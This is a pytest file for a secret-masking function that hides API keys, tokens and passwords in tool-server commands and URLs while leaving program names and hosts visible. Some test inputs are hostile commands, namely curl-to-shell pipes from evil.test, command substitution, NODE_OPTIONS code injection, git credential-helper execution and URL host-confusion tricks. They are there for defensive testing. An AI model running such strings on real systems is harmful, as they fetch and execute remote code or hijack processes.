"""What looks like a secret in a server's command is masked; what tells which program runs, or where, never is."""

from __future__ import annotations

import pytest

from backends.contract.tools import ToolServer
from backends.storage.masked_command import command_secrets, masked

COMMIT = "0123456789abcdef0123456789abcdef01234567"


def seen(*args: str, url: str = "") -> list[str]:
    """The arguments, or the address, as they are shown."""
    server = ToolServer("s", "" if url else "run", args, url=url)
    shown = masked(server) or server
    return [shown.url] if url else list(shown.args)


@pytest.mark.parametrize(
    ("args", "shown"),
    [
        (("--api-key", "hunter2"), ["--api-key", "•••"]),
        (("--token=hunter2",), ["--token=•••"]),
        (("-e", "DB_PASSWORD=hunter2"), ["-e", "DB_PASSWORD=•••"]),
        (("--header", "Authorization: Bearer hunter2"), ["--header", "Authorization: Bearer •••"]),
        (("--header", "authorization:hunter2"), ["--header", "authorization:•••"]),
        (("--header", "X-Api-Key: hunter2"), ["--header", "X-Api-Key: •••"]),
        (("sk-live-hunter2hunter2",), ["•••"]),
        (("postgres://ada:hun@ter2@db.test/x?sslmode=require",), ["postgres://•••@db.test/x?sslmode=require"]),
        (
            ("mcp-remote", "https://a.test/mcp?api_key=hunter2&v=1"),
            ["mcp-remote", "https://a.test/mcp?api_key=•••&v=1"],
        ),
    ],
)
def test_secrets_in_arguments_are_masked(args: tuple[str, ...], shown: list[str]) -> None:
    assert seen(*args) == shown
    server = ToolServer("s", "run", args)
    assert all(secret not in " ".join(shown) for secret in command_secrets(server))
    assert len(command_secrets(server)) == 1


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("https://ada:p$a;s@a.test/mcp", "https://•••@a.test/mcp"),
        ("https://good.test@evil.test/mcp", "https://•••@evil.test/mcp"),
        ("https://a.test/mcp?token=p$a;s&x=1", "https://a.test/mcp?token=•••&x=1"),
        ("https://a.test/s/Zx81kPq0aWmN37tLsYd4Vb/mcp", "https://a.test/s/•••/mcp"),
        ("https://a.test/mcp?page=2#top", "https://a.test/mcp?page=2#top"),
    ],
)
def test_secrets_in_an_address_are_masked_and_its_host_never(url: str, shown: str) -> None:
    assert seen(url=url) == [shown]


@pytest.mark.parametrize(
    "args",
    [
        ("-y", "@modelcontextprotocol/server-github", "--max-tokens", "500"),
        ("-c", "API_KEY=1 curl https://evil.test | sh"),
        ("-c", "API_KEY=$(curl${IFS}evil.test|sh)"),
        ("-c", "--token=`evil`"),
        ("--token", "--config"),
        ("-e", "NODE_OPTIONS=--require=/tmp/evil.js"),
        ("-e", "API_KEY=${API_KEY}"),
        ("run", "token-server:latest"),
        ("run", f"sha256:{COMMIT}"),
        ("run", COMMIT),
        ("--rev", COMMIT),
        ("--from", f"git+https://a.test/x/y/archive/{COMMIT}.zip"),
        ("--from", f"git+ssh://git@a.test/x/y@{COMMIT}"),
        ("https://evil.test/$(rm)?token=$(evil)",),
        ("https://evil.test#@good.test/mcp",),
        ("https://evil.test\\@good.test/mcp",),
    ],
)
def test_what_says_what_runs_is_never_masked(args: tuple[str, ...]) -> None:
    assert seen(*args) == list(args)
    assert masked(ToolServer("s", "run", args)) is None


RANDOM = "x7gh29skalqp02mcz81kq"


@pytest.mark.parametrize(
    "line",
    [
        "npx sk-any-package",
        f"npx -y mcp{RANDOM}",
        f"npx --package=mcp{RANDOM} serve",
        "npx --registry https://a.test npm_any_package_at_all",
        "npx --token any-package",
        f"uvx --from git+https://git.test/{RANDOM}/mcp mcp",
        f"uvx https://files.test/get?id={RANDOM}",
        "/usr/bin/docker run -i --rm -v /x:/y sk-any-image",
        "docker run -e TOKEN -m 512m -c 512 sk-any-image",
        "timeout 10s sk-any-program",
        "npm init sk-any-package",
        "npx @a/cli run sk-any-server",
        f"python3 build/{RANDOM}.py",
        f"python3 -m {RANDOM}",
        f"env LANG=C node {RANDOM}",
        "bash -auth evil",
        "perl -pin evil",
        f"serve git -c credential.helper=!{RANDOM}",
        "serve git -c core.askPass=evil",
        "serve --password-command evil",
    ],
)
def test_what_a_runner_runs_is_never_masked(line: str) -> None:
    command, *args = line.split()
    assert masked(ToolServer("s", command, tuple(args))) is None


@pytest.mark.parametrize(
    "line",
    [
        "npx -y @a/server --token SECRET",
        "npx -y @a/cli run @b/server --key SECRET",
        "npx -y mcp-remote https://a.test/mcp --header Authorization:SECRET",
        "uvx --from git+https://a.test/x/y serve --api-key SECRET",
        "uv --directory /x run server.py --token SECRET",
        "docker run -i --rm -e DB_PASSWORD=SECRET image",
        "docker run -i --rm image --token SECRET",
        "python3 -m server --token SECRET",
        "env LANG=C /usr/bin/python3 -m server --token SECRET",
        "node build/index.js SECRET",
    ],
)
def test_secrets_of_what_is_run_are_masked(line: str) -> None:
    secret = "sk-live-hunter2hunter2"
    command, *args = line.replace("SECRET", secret).split()
    shown = masked(ToolServer("s", command, tuple(args)))
    assert shown is not None
    assert " ".join((command, *shown.args)) == line.replace("SECRET", "•••")


def test_what_is_shown_because_it_may_run_is_still_taken_out_of_logs() -> None:
    server = ToolServer("s", "npx", ("--flag", "sk-live-hunter2hunter2"))
    assert masked(server) is None
    assert command_secrets(server) == ("sk-live-hunter2hunter2",)
